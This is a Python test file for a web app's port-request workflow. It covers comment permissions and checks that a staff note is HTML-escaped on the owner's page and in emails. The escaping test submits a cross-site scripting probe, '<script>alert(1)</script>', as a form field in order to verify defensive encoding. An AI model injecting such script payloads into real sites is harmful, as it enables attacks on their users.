def test_an_owner_cannot_make_a_comment_internal(app, owner, staff, owner_client):
    request_id = make(app, owner, "in_review")
    owner_client.post(
        f"/port-requests/{request_id}/comments", data={"body": "Hide me", "internal": "y"}
    )
    with app.app_context():
        assert [(row.body, row.internal) for row in RequestComment.select()] == [("Hide me", False)]


def test_markup_in_a_staff_note_is_escaped_in_the_owners_page_and_email(
    app, owner, staff, staff_client, owner_client
):
    request_id = make(app, owner, "in_review")
    staff_client.post(
        f"/staff/requests/{request_id}/moves/require_action",
        data={"shown": "in_review", "codes": "OTHER", "note": "<script>alert(1)</script>"},
    )
    page = owner_client.get(f"/port-requests/{request_id}").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;" in page
    with app.app_context():
        html = [row.html_body or "" for row in OutboxEmail.select()]
    assert not any("<script>alert(1)</script>" in body for body in html)


def test_staff_cannot_comment_on_a_draft(app, owner, staff, staff_client):
    request_id = make_submittable(app, owner.account_id, created_by=owner)
    with app.app_context():
        emails = OutboxEmail.select().count()
    answer = staff_client.post(f"/staff/requests/{request_id}/comments", data={"body": "Hi"})
    assert answer.status_code in (400, 404, 409)
    with app.app_context():
        assert RequestComment.select().count() == 0
        assert OutboxEmail.select().count() == emails
